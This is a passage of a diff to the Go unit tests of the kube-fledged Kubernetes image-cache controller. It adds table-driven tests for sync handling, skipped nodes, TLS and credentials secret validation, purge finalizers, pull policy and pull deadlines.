 		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
-		controller, _, _ := newTestController(fakekubeclientset, fakefledgedclientset)
-		result := controller.enqueueImageCache(test.workType, &test.oldImageCache, &test.newImageCache)
-		if result != test.expectedResult {
-			t.Errorf("Test %s failed: expected=%t, actual=%t", test.name, test.expectedResult, result)
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, test.imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&test.imageCache)
+		if test.otherImageCache != nil {
+			imagecacheInformer.Informer().GetIndexer().Add(test.otherImageCache)
+		}
+		if err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheRefresh}); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		if len(updates) < 2 {
+			t.Errorf("Test: %s failed: expected at least 2 updates, actual %d", test.name, len(updates))
+			continue
+		}
+		deleteImages := []string{}
+		for _, job := range updates[1].Status.PlannedJobs {
+			if job.Action == kubefledgedv1alpha1.PlannedJobActionDelete {
+				deleteImages = append(deleteImages, job.Image)
+			}
+		}
+		if !reflect.DeepEqual(deleteImages, test.expectedDeleteImages) {
+			t.Errorf("Test: %s failed: expected delete jobs for %v, actual %+v", test.name, test.expectedDeleteImages, updates[1].Status.PlannedJobs)
 		}
 	}
 }
 
-func TestProcessNextWorkItem(t *testing.T) {
-	type ActionReaction struct {
-		action   string
-		reaction string
+func TestSyncHandlerQueuedImages(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "foo",
+			Namespace: "kube-fledged",
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{
+					Images: []string{"foo", "bar"},
+				},
+			},
+		},
 	}
-	defaultImageCache := kubefledgedv1alpha1.ImageCache{
+	fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+	var updates []*kubefledgedv1alpha1.ImageCache
+	fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		return true, imageCache.DeepCopy(), nil
+	})
+	fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+		updates = append(updates, obj)
+		return true, obj, nil
+	})
+
+	controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+	nodeInformer.Informer().GetIndexer().Add(&node)
+	imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+	if err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate}); err != nil {
+		t.Fatalf("Test failed: expectedError=nil, actualError=%s", err.Error())
+	}
+	if len(updates) != 2 {
+		t.Fatalf("Test failed: expected 2 updates, actual %d", len(updates))
+	}
+	expected := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+		{Image: "bar", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+	}
+	if !reflect.DeepEqual(updates[1].Status.Images, expected) {
+		t.Errorf("Test failed: expected %+v, actual %+v", expected, updates[1].Status.Images)
+	}
+}
+
+func TestSyncHandlerSkippedNodes(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
 		ObjectMeta: metav1.ObjectMeta{
 			Name:      "foo",
 			Namespace: "kube-fledged",
@@ -1077,101 +1487,4352 @@ func TestProcessNextWorkItem(t *testing.T) {
 			},
 		},
 	}
-
+	cordoned := corev1.Node{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:   "cordoned",
+			Labels: map[string]string{"kubernetes.io/hostname": "cordoned"},
+		},
+		Spec:   corev1.NodeSpec{Unschedulable: true},
+		Status: readyNodeStatus,
+	}
+	notReady := corev1.Node{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:   "notready",
+			Labels: map[string]string{"kubernetes.io/hostname": "notready"},
+		},
+		Status: corev1.NodeStatus{
+			Conditions: []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionUnknown}},
+		},
+	}
+	skippedNodes := []kubefledgedv1alpha1.NodeReasonMessage{
+		{Node: "cordoned", Reason: kubefledgedv1alpha1.ImageCacheReasonNodeUnschedulable, Message: kubefledgedv1alpha1.ImageCacheMessageNodeUnschedulable},
+		{Node: "notready", Reason: kubefledgedv1alpha1.ImageCacheReasonNodeNotReady, Message: kubefledgedv1alpha1.ImageCacheMessageNodeNotReady},
+	}
 	tests := []struct {
-		name              string
-		imageCache        kubefledgedv1alpha1.ImageCache
-		wqKey             images.WorkQueueKey
-		expectedActions   []ActionReaction
-		expectErr         bool
-		expectedErrString string
+		name                      string
+		nodes                     []corev1.Node
+		includeUnschedulableNodes bool
+		nodeNames                 []string
+		expectedImages            []kubefledgedv1alpha1.ImageNodeStatus
+		expectedSkippedNodes      []kubefledgedv1alpha1.NodeReasonMessage
+		expectedReason            string
 	}{
 		{
-			name:       "#1: StatusUpdate - ImageDeleteFailedForSomeImages",
-			imageCache: defaultImageCache,
-			wqKey: images.WorkQueueKey{
-				ObjKey:   "kube-fledged/foo",
-				WorkType: images.ImageCacheStatusUpdate,
-				Status: &map[string]images.ImageWorkResult{
-					"job1": {
-						Status: images.ImageWorkResultStatusFailed,
-						ImageWorkRequest: images.ImageWorkRequest{
-							WorkType: images.ImageCachePurge,
-							Node:     &node,
-						},
-					},
-				},
+			name:  "#1: Unschedulable and not ready nodes skipped",
+			nodes: []corev1.Node{node, cordoned, notReady},
+			expectedImages: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
 			},
-			expectedActions: []ActionReaction{
-				{action: "get", reaction: ""},
-				{action: "update", reaction: ""},
+			expectedSkippedNodes: skippedNodes,
+			expectedReason:       kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+		},
+		{
+			name:                 "#2: All nodes skipped",
+			nodes:                []corev1.Node{cordoned, notReady},
+			expectedSkippedNodes: skippedNodes,
+			expectedReason:       kubefledgedv1alpha1.ImageCacheReasonNoSchedulableNodes,
+		},
+		{
+			name:                      "#3: Unschedulable and not ready nodes included",
+			nodes:                     []corev1.Node{cordoned, notReady},
+			includeUnschedulableNodes: true,
+			expectedImages: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "cordoned", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+				{Image: "foo", Node: "notready", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
 			},
-			expectErr:         false,
-			expectedErrString: "",
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
 		},
 		{
-			name: "#2: Create - Invalid imagecache spec (no images specified)",
-			imageCache: kubefledgedv1alpha1.ImageCache{
-				ObjectMeta: metav1.ObjectMeta{
-					Name:      "foo",
-					Namespace: "kube-fledged",
-				},
-				Spec: kubefledgedv1alpha1.ImageCacheSpec{
-					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
-						{
-							Images: []string{},
-						},
-					},
-				},
+			name:                      "#4: Images cached in named nodes only",
+			nodes:                     []corev1.Node{node, cordoned, notReady},
+			includeUnschedulableNodes: true,
+			nodeNames:                 []string{"cordoned", "missing"},
+			expectedImages: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "cordoned", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
 			},
-			wqKey: images.WorkQueueKey{
-				ObjKey:   "kube-fledged/foo",
-				WorkType: images.ImageCacheCreate,
+			expectedSkippedNodes: []kubefledgedv1alpha1.NodeReasonMessage{
+				{Node: "missing", Reason: kubefledgedv1alpha1.ImageCacheReasonNodeNotFound, Message: kubefledgedv1alpha1.ImageCacheMessageNodeNotFound},
 			},
-			expectedActions:   []ActionReaction{{action: "update", reaction: ""}},
-			expectErr:         false,
-			expectedErrString: "No images specified within image list",
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
 		},
 		{
-			name:              "#3: Unexpected type in workqueue",
-			expectErr:         false,
-			expectedErrString: "Unexpected type in workqueue",
+			name:      "#5: No named nodes found",
+			nodes:     []corev1.Node{node, cordoned},
+			nodeNames: []string{"missing"},
+			expectedSkippedNodes: []kubefledgedv1alpha1.NodeReasonMessage{
+				{Node: "missing", Reason: kubefledgedv1alpha1.ImageCacheReasonNodeNotFound, Message: kubefledgedv1alpha1.ImageCacheMessageNodeNotFound},
+			},
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonNoSchedulableNodes,
 		},
 	}
-
 	for _, test := range tests {
-		fakekubeclientset := &fakeclientset.Clientset{}
+		imageCache := imageCache.DeepCopy()
+		imageCache.Spec.CacheSpec[0].NodeNames = test.nodeNames
 		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
-		for _, ar := range test.expectedActions {
-			if ar.reaction != "" {
-				apiError := apierrors.NewInternalError(fmt.Errorf(ar.reaction))
-				fakefledgedclientset.AddReactor(ar.action, "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
-					return true, nil, apiError
-				})
-			}
-			fakefledgedclientset.AddReactor(ar.action, "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
-				return true, &test.imageCache, nil
-			})
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		controller.includeUnschedulableNodes = test.includeUnschedulableNodes
+		for i := range test.nodes {
+			nodeInformer.Informer().GetIndexer().Add(&test.nodes[i])
+		}
+		imagecacheInformer.Informer().GetIndexer().Add(imageCache)
+		err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate})
+		if (err != nil) != (test.expectedReason == kubefledgedv1alpha1.ImageCacheReasonNoSchedulableNodes) {
+			t.Errorf("Test: %s failed: unexpected error %v", test.name, err)
 		}
+		if len(updates) != 2 {
+			t.Errorf("Test: %s failed: expected 2 updates, actual %d", test.name, len(updates))
+			continue
+		}
+		status := updates[1].Status
+		sort.Slice(status.Images, func(i, j int) bool { return status.Images[i].Node < status.Images[j].Node })
+		sort.Slice(status.SkippedNodes, func(i, j int) bool { return status.SkippedNodes[i].Node < status.SkippedNodes[j].Node })
+		if !reflect.DeepEqual(status.Images, test.expectedImages) {
+			t.Errorf("Test: %s failed: expected images %+v, actual %+v", test.name, test.expectedImages, status.Images)
+		}
+		if !reflect.DeepEqual(status.SkippedNodes, test.expectedSkippedNodes) {
+			t.Errorf("Test: %s failed: expected skipped nodes %+v, actual %+v", test.name, test.expectedSkippedNodes, status.SkippedNodes)
+		}
+		if status.Reason != test.expectedReason {
+			t.Errorf("Test: %s failed: expected reason %s, actual %s", test.name, test.expectedReason, status.Reason)
+		}
+	}
+}
 
-		controller, _, imagecacheInformer := newTestController(fakekubeclientset, fakefledgedclientset)
-		imagecacheInformer.Informer().GetIndexer().Add(&test.imageCache)
-		if test.expectedErrString == "Unexpected type in workqueue" {
-			controller.workqueue.Add(struct{}{})
+func TestSyncHandlerClientTLSSecret(t *testing.T) {
+	tests := []struct {
+		name           string
+		secretData     map[string][]byte
+		expectedReason string
+	}{
+		{
+			name:           "#1: Client certificate and key",
+			secretData:     map[string][]byte{corev1.TLSCertKey: []byte("cert"), corev1.TLSPrivateKeyKey: []byte("key")},
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+		},
+		{
+			name:           "#2: Client key missing",
+			secretData:     map[string][]byte{corev1.TLSCertKey: []byte("cert"), corev1.ServiceAccountRootCAKey: []byte("ca")},
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonClientTLSSecretInvalid,
+		},
+		{
+			name:           "#3: Client TLS secret not found",
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonImagePullSecretNotFound,
+		},
+	}
+	for _, test := range tests {
+		imageCache := &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec:       []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo"}}},
+				ClientTLSSecret: "client-tls",
+			},
 		}
-		controller.workqueue.Add(test.wqKey)
-		controller.processNextWorkItem()
-		var err error
-		if test.expectErr {
-			if err == nil {
-				t.Errorf("Test: %s failed: expectedError=%s, actualError=nil", test.name, test.expectedErrString)
-			}
-			if err != nil && !strings.HasPrefix(err.Error(), test.expectedErrString) {
-				t.Errorf("Test: %s failed: expectedError=%s, actualError=%s", test.name, test.expectedErrString, err.Error())
-			}
-		} else if err != nil {
-			t.Errorf("Test: %s failed. expectedError=nil, actualError=%s", test.name, err.Error())
+		fakekubeclientset := fakeclientset.NewSimpleClientset()
+		if test.secretData != nil {
+			fakekubeclientset = fakeclientset.NewSimpleClientset(&corev1.Secret{
+				ObjectMeta: metav1.ObjectMeta{Name: "client-tls", Namespace: fledgedNameSpace},
+				Type:       corev1.SecretTypeOpaque,
+				Data:       test.secretData,
+			})
+		}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(fakekubeclientset, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(imageCache)
+		err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate})
+		if (err != nil) != (test.expectedReason != kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate) {
+			t.Errorf("Test: %s failed: unexpected error %v", test.name, err)
+		}
+		if len(updates) == 0 {
+			t.Errorf("Test: %s failed: image cache status not updated", test.name)
+			continue
+		}
+		if reason := updates[len(updates)-1].Status.Reason; reason != test.expectedReason {
+			t.Errorf("Test: %s failed: expected reason %s, actual %s", test.name, test.expectedReason, reason)
+		}
+	}
+}
+
+func TestSyncHandlerCredentialsSecret(t *testing.T) {
+	tests := []struct {
+		name                      string
+		namespace                 string
+		jobsInImageCacheNamespace bool
+		secretType                corev1.SecretType
+		secretLabels              map[string]string
+		expectedReason            string
+	}{
+		{
+			name:           "#1: Labeled credentials secret in the namespace of kube-fledged",
+			namespace:      fledgedNameSpace,
+			secretType:     corev1.SecretTypeOpaque,
+			secretLabels:   map[string]string{kubefledgedv1alpha1.CredentialsSecretLabelKey: "true"},
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+		},
+		{
+			name:           "#2: Unlabeled credentials secret in the namespace of kube-fledged",
+			namespace:      fledgedNameSpace,
+			secretType:     corev1.SecretTypeOpaque,
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonCredentialsSecretNotAllowed,
+		},
+		{
+			name:           "#3: Labeled service account token",
+			namespace:      fledgedNameSpace,
+			secretType:     corev1.SecretTypeServiceAccountToken,
+			secretLabels:   map[string]string{kubefledgedv1alpha1.CredentialsSecretLabelKey: "true"},
+			expectedReason: kubefledgedv1alpha1.ImageCacheReasonCredentialsSecretNotAllowed,
+		},
+		{
+			name:                      "#4: Unlabeled credentials secret in the namespace of the image cache",
+			namespace:                 "shop",
+			jobsInImageCacheNamespace: true,
+			secretType:                corev1.SecretTypeOpaque,
+			expectedReason:            kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+		},
+		{
+			name:                      "#5: Service account token in the namespace of the image cache",
+			namespace:                 "shop",
+			jobsInImageCacheNamespace: true,
+			secretType:                corev1.SecretTypeServiceAccountToken,
+			expectedReason:            kubefledgedv1alpha1.ImageCacheReasonCredentialsSecretNotAllowed,
+		},
+	}
+	for _, test := range tests {
+		imageCache := &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: test.namespace,
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec:         []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"foo"}}},
+				PullJobContainer:  &kubefledgedv1alpha1.PullJobContainer{Image: "gcr-puller:v1"},
+				CredentialsSecret: &kubefledgedv1alpha1.CredentialsSecret{SecretName: "gcr-key", MountPath: "/var/run/secrets/gcr"},
+			},
+		}
+		fakekubeclientset := fakeclientset.NewSimpleClientset(&corev1.Secret{
+			ObjectMeta: metav1.ObjectMeta{Name: "gcr-key", Namespace: test.namespace, Labels: test.secretLabels},
+			Type:       test.secretType,
+		})
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(fakekubeclientset, fakefledgedclientset)
+		controller.jobsInImageCacheNamespace = test.jobsInImageCacheNamespace
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(imageCache)
+		err := controller.syncHandler(images.WorkQueueKey{ObjKey: test.namespace + "/foo", WorkType: images.ImageCacheCreate})
+		if (err != nil) != (test.expectedReason != kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate) {
+			t.Errorf("Test: %s failed: unexpected error %v", test.name, err)
+		}
+		if len(updates) == 0 {
+			t.Errorf("Test: %s failed: image cache status not updated", test.name)
+			continue
+		}
+		if reason := updates[len(updates)-1].Status.Reason; reason != test.expectedReason {
+			t.Errorf("Test: %s failed: expected reason %s, actual %s", test.name, test.expectedReason, reason)
+		}
+	}
+}
+
+func TestSyncHandlerDelete(t *testing.T) {
+	deletionTimestamp := metav1.Now()
+	imageCache := func(status kubefledgedv1alpha1.ImageCacheActionStatus, nodeSelector map[string]string, finalizers ...string) kubefledgedv1alpha1.ImageCache {
+		return kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:              "foo",
+				Namespace:         "kube-fledged",
+				DeletionTimestamp: &deletionTimestamp,
+				Finalizers:        finalizers,
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{
+						Images:       []string{"foo", "bar"},
+						NodeSelector: nodeSelector,
+					},
+				},
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: status,
+			},
+		}
+	}
+	deleteKey := images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheDelete}
+	tests := []struct {
+		name                   string
+		imageCache             kubefledgedv1alpha1.ImageCache
+		wqKey                  images.WorkQueueKey
+		expectedUpdates        int
+		expectFinalizerRemoved bool
+		expectedRequeues       int
+		expectedPurgeRequests  bool
+	}{
+		{
+			name:            "#1: No purge finalizer",
+			imageCache:      imageCache(kubefledgedv1alpha1.ImageCacheActionStatusSucceeded, nil),
+			wqKey:           deleteKey,
+			expectedUpdates: 0,
+		},
+		{
+			name:             "#2: Purge deferred while image cache is under processing",
+			imageCache:       imageCache(kubefledgedv1alpha1.ImageCacheActionStatusProcessing, nil, imageCachePurgeFinalizer),
+			wqKey:            deleteKey,
+			expectedUpdates:  0,
+			expectedRequeues: 1,
+		},
+		{
+			name:                   "#3: No images cached, so finalizer removed",
+			imageCache:             imageCache("", nil, imageCachePurgeFinalizer),
+			wqKey:                  deleteKey,
+			expectedUpdates:        1,
+			expectFinalizerRemoved: true,
+		},
+		{
+			name:                  "#4: Cached images purged",
+			imageCache:            imageCache(kubefledgedv1alpha1.ImageCacheActionStatusSucceeded, nil, imageCachePurgeFinalizer),
+			wqKey:                 deleteKey,
+			expectedUpdates:       2,
+			expectedPurgeRequests: true,
+		},
+		{
+			name:                   "#5: Nodes removed from cluster, so finalizer removed",
+			imageCache:             imageCache(kubefledgedv1alpha1.ImageCacheActionStatusSucceeded, map[string]string{"accelerator": "gpu"}, imageCachePurgeFinalizer),
+			wqKey:                  deleteKey,
+			expectedUpdates:        2,
+			expectFinalizerRemoved: true,
+		},
+		{
+			name:       "#6: StatusUpdate - Finalizer removed after purge, irrespective of failures",
+			imageCache: imageCache(kubefledgedv1alpha1.ImageCacheActionStatusProcessing, nil, imageCachePurgeFinalizer),
+			wqKey: images.WorkQueueKey{
+				ObjKey:   "kube-fledged/foo",
+				WorkType: images.ImageCacheStatusUpdate,
+				Status: &map[string]images.ImageWorkResult{
+					"job1": {
+						Status: images.ImageWorkResultStatusFailed,
+						ImageWorkRequest: images.ImageWorkRequest{
+							Image:    "foo",
+							WorkType: images.ImageCachePurge,
+							Node:     &node,
+						},
+					},
+				},
+			},
+			expectedUpdates:        1,
+			expectFinalizerRemoved: true,
+		},
+	}
+
+	for _, test := range tests {
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, test.imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&test.imageCache)
+		if err := controller.syncHandler(test.wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		if len(updates) != test.expectedUpdates {
+			t.Errorf("Test: %s failed: expected %d updates, actual %d", test.name, test.expectedUpdates, len(updates))
+			continue
+		}
+		if len(updates) > 0 && hasPurgeFinalizer(updates[len(updates)-1]) == test.expectFinalizerRemoved {
+			t.Errorf("Test: %s failed: expectFinalizerRemoved=%t, actual finalizers %v", test.name, test.expectFinalizerRemoved, updates[len(updates)-1].Finalizers)
+		}
+		if requeues := controller.workqueue.NumRequeues(test.wqKey); requeues != test.expectedRequeues {
+			t.Errorf("Test: %s failed: expected %d requeues, actual %d", test.name, test.expectedRequeues, requeues)
+		}
+		if test.expectedPurgeRequests {
+			obj, _ := controller.imageworkqueue.Get()
+			if iwr := obj.(images.ImageWorkRequest); iwr.WorkType != images.ImageCachePurge {
+				t.Errorf("Test: %s failed: expected purge request, actual %s", test.name, iwr.WorkType)
+			}
+		}
+	}
+}
+
+func TestSyncHandlerImagePullPolicy(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "foo",
+			Namespace: "kube-fledged",
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{
+					Images:          []string{"foo"},
+					ImagePullPolicy: corev1.PullIfNotPresent,
+				},
+			},
+		},
+	}
+	tests := []struct {
+		name                    string
+		wqKey                   images.WorkQueueKey
+		expectedImagePullPolicy string
+	}{
+		{
+			name:                    "#1: Image pull policy of image list",
+			wqKey:                   images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate},
+			expectedImagePullPolicy: "IfNotPresent",
+		},
+		{
+			name:                    "#2: Image pull policy of scheduled refresh takes precedence",
+			wqKey:                   images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate, ImagePullPolicy: "Always"},
+			expectedImagePullPolicy: "Always",
+		},
+	}
+	for _, test := range tests {
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		fakefledgedclientset.AddReactor("*", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		if err := controller.syncHandler(test.wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		obj, _ := controller.imageworkqueue.Get()
+		if iwr := obj.(images.ImageWorkRequest); iwr.ImagePullPolicy != test.expectedImagePullPolicy {
+			t.Errorf("Test: %s failed: expected image pull policy %s, actual %s", test.name, test.expectedImagePullPolicy, iwr.ImagePullPolicy)
+		}
+	}
+}
+
+func TestSyncHandlerPullDeadline(t *testing.T) {
+	tests := []struct {
+		name                 string
+		cachePullDeadline    *metav1.Duration
+		listPullDeadline     *metav1.Duration
+		update               bool
+		expectedPullDeadline *metav1.Duration
+	}{
+		{
+			name: "#1: Pull deadline not overridden",
+		},
+		{
+			name:                 "#2: Pull deadline of image cache",
+			cachePullDeadline:    &metav1.Duration{Duration: time.Hour},
+			expectedPullDeadline: &metav1.Duration{Duration: time.Hour},
+		},
+		{
+			name:                 "#3: Pull deadline of image list takes precedence",
+			cachePullDeadline:    &metav1.Duration{Duration: time.Hour},
+			listPullDeadline:     &metav1.Duration{Duration: time.Minute},
+			expectedPullDeadline: &metav1.Duration{Duration: time.Minute},
+		},
+		{
+			// Image lists are not defaulted in the stored image cache, so a later pull deadline of the image cache applies
+			name:                 "#4: Pull deadline of image cache set by an update",
+			cachePullDeadline:    &metav1.Duration{Duration: time.Hour},
+			update:               true,
+			expectedPullDeadline: &metav1.Duration{Duration: time.Hour},
+		},
+	}
+	for _, test := range tests {
+		imageCache := kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{
+						Images:       []string{"foo"},
+						PullDeadline: test.listPullDeadline,
+					},
+				},
+				PullDeadline: test.cachePullDeadline,
+			},
+		}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		fakefledgedclientset.AddReactor("*", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		wqKey := images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate}
+		if test.update {
+			oldImageCache := imageCache.DeepCopy()
+			oldImageCache.Spec.PullDeadline = nil
+			wqKey = images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheUpdate, OldImageCache: oldImageCache}
+		}
+		if err := controller.syncHandler(wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		obj, _ := controller.imageworkqueue.Get()
+		if iwr := obj.(images.ImageWorkRequest); !reflect.DeepEqual(iwr.PullDeadline, test.expectedPullDeadline) {
+			t.Errorf("Test: %s failed: expected pull deadline %v, actual %v", test.name, test.expectedPullDeadline, iwr.PullDeadline)
+		}
+	}
+}
+
+func TestAllImagesCachedCondition(t *testing.T) {
+	lastTransitionTime := metav1.NewTime(time.Now().Add(-time.Hour).Truncate(time.Second))
+	cachedCondition := kubefledgedv1alpha1.ImageCacheCondition{
+		Type:               kubefledgedv1alpha1.ImageCacheConditionAllImagesCached,
+		Status:             corev1.ConditionTrue,
+		LastTransitionTime: lastTransitionTime,
+	}
+	results := func(status string) *map[string]images.ImageWorkResult {
+		return &map[string]images.ImageWorkResult{
+			"job1": {
+				Status: status,
+				ImageWorkRequest: images.ImageWorkRequest{
+					Image:    "foo",
